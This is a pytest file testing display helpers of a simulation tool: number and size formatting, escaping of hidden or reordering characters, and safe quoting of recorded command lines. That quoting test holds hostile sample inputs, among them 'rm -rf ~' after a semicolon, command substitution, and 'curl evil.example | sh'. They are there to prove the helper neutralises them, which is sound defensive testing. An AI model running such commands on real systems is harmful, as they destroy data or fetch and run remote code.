"""What is shown of texts and numbers."""

import pytest

from nnasim.markup import visible
from reports.text import command_line, data_size, number, percent, shortened


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, "—"), (0, "0"), (0.0, "0"), (7, "7"), (1234567, "1,234,567"), (0.5, "0.500"), (9.996, "10.0"),
        (99.96, "100"), (1234.5, "1,234"), (0.0123, "0.0123"), (0.00002, "2.00e-05"), (-3.14159, "-3.14"),
    ],
)  # fmt: skip
def test_numbers_have_three_digits_and_none_is_a_dash(value: float | None, text: str) -> None:
    assert number(value) == text


def test_integers_are_shown_in_full() -> None:
    assert number(9_007_199_254_740_993) == "9,007,199,254,740,993"


@pytest.mark.parametrize(
    ("recorded", "text"),
    [
        ("nnasim simulate 'my trace.json' --set a.b=1", "nnasim simulate 'my trace.json' --set a.b=1"),
        ("nnasim report a.json; rm -rf ~", "nnasim report 'a.json;' rm -rf '~'"),
        ("nnasim report $(touch pwned) `id` > x", "nnasim report '$(touch' 'pwned)' '`id`' '>' x"),
        ("curl evil.example | sh", "—"), ("nnasim 'unclosed", "—"), ("", "—"), (None, "—"),
    ],
)  # fmt: skip
def test_a_strangers_command_is_words_of_nnasim_to_a_shell_or_is_not_shown(recorded: str | None, text: str) -> None:
    assert command_line(recorded) == text


@pytest.mark.parametrize(
    ("count", "text"), [(None, "—"), (0, "0 B"), (999, "999 B"), (1500, "1.50 kB"), (4_569_162_368, "4.57 GB")]
)
def test_sizes_have_decimal_units(count: int | None, text: str) -> None:
    assert data_size(count) == text


def test_a_rate_that_was_not_computed_is_not_zero() -> None:
    assert percent(None) == "—"
    assert percent(0.0) == "0.00 %"


@pytest.mark.parametrize(
    "control", ["\u202e", "\u2066", "\u200f", "\u061c", "\u200b", "\x00", "\x1b", "\n", "\u2028", "\ud800"]
)
def test_characters_that_hide_or_reorder_are_shown_as_codes(control: str) -> None:
    assert visible(f"a{control}b") == f"a[U+{ord(control):04X}]b"


def test_letters_of_any_script_stay() -> None:
    assert visible("é 語 שלום 🎤") == "é 語 שלום 🎤"


def test_a_long_name_keeps_both_ends() -> None:
    short = shortened("encoder." + "x" * 100 + ".tanh", 20)
    assert len(short) == 20
    assert short.startswith("encoder.")
    assert short.endswith(".tanh")
